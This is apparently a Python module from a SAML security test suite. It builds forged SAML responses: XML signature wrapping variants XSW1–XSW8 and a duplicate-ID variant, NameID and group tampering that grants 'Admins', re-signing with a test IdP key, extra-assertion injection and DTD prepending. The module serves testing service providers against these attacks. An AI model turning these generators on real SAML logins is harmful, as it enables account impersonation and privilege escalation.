"""Reworking signed SAML responses into attacks (XML signature wrapping, tampering,
bad conditions) for the attack suite. Pure XML manipulation with lxml, plus a signer
that signs with a test IdP's key the way an IdP would (python-xmlsec), for responses
whose *content* is wrong but whose signature is right.

XSW1–XSW8 follow the variants of Somorovsky et al., "On Breaking SAML: Be Whoever You
Want to Be" (USENIX Security 2012), as SAML Raider implements them.
"""

from __future__ import annotations

import copy
import uuid

import xmlsec
from lxml import etree

from saml_idp import KeyPair

SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"saml": SAML, "samlp": SAMLP, "ds": DS}
EVIL = "mallory@evil.test"


def parse(xml: str | bytes) -> etree._Element:
    return etree.fromstring(xml.encode() if isinstance(xml, str) else xml)


def dump(root: etree._Element) -> str:
    return etree.tostring(root, encoding="unicode")


def assertion_of(root: etree._Element) -> etree._Element:
    return root.find("saml:Assertion", NS)


def signature_of(el: etree._Element) -> etree._Element | None:
    return el.find("ds:Signature", NS)


def set_name_id(el: etree._Element, value: str = EVIL) -> None:
    for nid in el.iter(f"{{{SAML}}}NameID"):
        nid.text = value


def strip_signatures(el: etree._Element) -> etree._Element:
    for sig in el.findall(".//ds:Signature", NS):
        sig.getparent().remove(sig)
    return el


# ------------------------------------------------------------------ tampering


def tamper_name_id(xml: str) -> str:
    root = parse(xml)
    set_name_id(root)
    return dump(root)


def tamper_attribute(xml: str) -> str:
    root = parse(xml)
    for value in root.iter(f"{{{SAML}}}AttributeValue"):
        value.text = "Admins"
        break
    return dump(root)


# ------------------------------------------------------------------ XSW (response signature)


def xsw1(xml: str) -> str:
    """Evil response at the root; the signed original (unsigned copy) inside the Signature."""
    root = parse(xml)
    clone = strip_signatures(copy.deepcopy(root))
    signature_of(root).append(clone)
    root.set("ID", "_evil_response")
    set_name_id(assertion_of(root))
    return dump(root)


def xsw2(xml: str) -> str:
    """Like XSW1, with the original copy as a sibling before the Signature (detached)."""
    root = parse(xml)
    clone = strip_signatures(copy.deepcopy(root))
    sig = signature_of(root)
    sig.addprevious(clone)
    root.set("ID", "_evil_response")
    set_name_id(assertion_of(root))
    return dump(root)


# ------------------------------------------------------------------ XSW (assertion signature)


def _evil_assertion(original: etree._Element, new_id: str = "_evil_assertion") -> etree._Element:
    evil = strip_signatures(copy.deepcopy(original))
    evil.set("ID", new_id)
    set_name_id(evil)
    return evil


def xsw3(xml: str) -> str:
    """An unsigned evil assertion before the signed original."""
    root = parse(xml)
    original = assertion_of(root)
    original.addprevious(_evil_assertion(original))
    return dump(root)


def xsw4(xml: str) -> str:
    """The evil assertion wraps the signed original."""
    root = parse(xml)
    original = assertion_of(root)
    evil = _evil_assertion(original)
    original.addprevious(evil)
    evil.append(original)
    return dump(root)


def xsw5(xml: str) -> str:
    """The signed assertion's content is changed; an unsigned copy of the original is
    appended to the response, for the signature to resolve to."""
    root = parse(xml)
    original = assertion_of(root)
    clone = strip_signatures(copy.deepcopy(original))
    set_name_id(original)
    original.set("ID", "_evil_assertion")
    root.append(clone)
    return dump(root)


def xsw6(xml: str) -> str:
    """The evil assertion carries the signature; the original copy sits in the Signature."""
    root = parse(xml)
    original = assertion_of(root)
    clone = strip_signatures(copy.deepcopy(original))
    signature_of(original).append(clone)
    set_name_id(original)
    original.set("ID", "_evil_assertion")
    return dump(root)


def xsw7(xml: str) -> str:
    """The original copy hidden in an Extensions element; the signed one changed."""
    root = parse(xml)
    original = assertion_of(root)
    ext = etree.Element(f"{{{SAMLP}}}Extensions")
    ext.append(strip_signatures(copy.deepcopy(original)))
    root.find("saml:Issuer", NS).addnext(ext)
    set_name_id(original)
    return dump(root)


def xsw8(xml: str) -> str:
    """The original copy in a ds:Object inside the evil assertion's Signature."""
    root = parse(xml)
    original = assertion_of(root)
    obj = etree.SubElement(signature_of(original), f"{{{DS}}}Object")
    obj.append(strip_signatures(copy.deepcopy(original)))
    set_name_id(original)
    original.set("ID", "_evil_assertion")
    return dump(root)


def xsw_duplicate_id(xml: str) -> str:
    """An unsigned evil assertion with the *same* ID before the signed original."""
    root = parse(xml)
    original = assertion_of(root)
    original.addprevious(_evil_assertion(original, new_id=original.get("ID")))
    return dump(root)


XSW = {
    "XSW1": ("response", xsw1),
    "XSW2": ("response", xsw2),
    "XSW3": ("assertion", xsw3),
    "XSW4": ("assertion", xsw4),
    "XSW5": ("assertion", xsw5),
    "XSW6": ("assertion", xsw6),
    "XSW7": ("assertion", xsw7),
    "XSW8": ("assertion", xsw8),
    "XSW-duplicate-id": ("assertion", xsw_duplicate_id),
}


# ------------------------------------------------------------------ signing


def sign(xml: str, keys: KeyPair, *, assertion: bool = True, response: bool = False, sha1: bool = False) -> str:
    """Drop existing signatures and sign the assertion and/or response (enveloped,
    exclusive c14n, SHA-256 unless ``sha1``), as an IdP does: for "valid signature,
    wrong content" cases."""
    root = strip_signatures(parse(xml))
    targets = []
    if assertion:
        targets.extend(root.findall(".//saml:Assertion", NS))
    if response:
        targets.append(root)  # last: the response signature covers the signed assertions
    for el in targets:
        sig = xmlsec.template.create(
            el,
            xmlsec.constants.TransformExclC14N,
            xmlsec.constants.TransformRsaSha1 if sha1 else xmlsec.constants.TransformRsaSha256,
        )
        issuer = el.find("saml:Issuer", NS)
        if issuer is not None:
            issuer.addnext(sig)
        else:
            el.insert(0, sig)
        ref = xmlsec.template.add_reference(
            sig, xmlsec.constants.TransformSha1 if sha1 else xmlsec.constants.TransformSha256, uri="#" + el.get("ID")
        )
        xmlsec.template.add_transform(ref, xmlsec.constants.TransformEnveloped)
        xmlsec.template.add_transform(ref, xmlsec.constants.TransformExclC14N)
        key_info = xmlsec.template.ensure_key_info(sig)
        xmlsec.template.add_x509_data(key_info)
        ctx = xmlsec.SignatureContext()
        ctx.register_id(el, "ID")
        key = xmlsec.Key.from_memory(keys.key_pem, xmlsec.constants.KeyDataFormatPem)
        key.load_cert_from_memory(keys.cert_pem, xmlsec.constants.KeyDataFormatPem)
        ctx.key = key
        ctx.sign(sig)
    return dump(root)


def edit(xml: str, xpath: str, *, attr: str | None = None, value: str | None = None, remove: bool = False) -> str:
    """Change (or remove) every node or attribute matching ``xpath``."""
    root = parse(xml)
    for el in root.xpath(xpath, namespaces=NS):
        if remove:
            if attr:
                el.attrib.pop(attr, None)
            else:
                el.getparent().remove(el)
        elif attr:
            el.set(attr, value or "")
        else:
            el.text = value
    return dump(root)


def two_assertions(xml: str) -> str:
    root = parse(xml)
    original = assertion_of(root)
    second = strip_signatures(copy.deepcopy(original))
    second.set("ID", "_" + uuid.uuid4().hex)
    set_name_id(second)
    original.addnext(second)
    return dump(root)


def with_dtd(xml: str, dtd: str) -> str:
    body = xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml
    return dtd + body
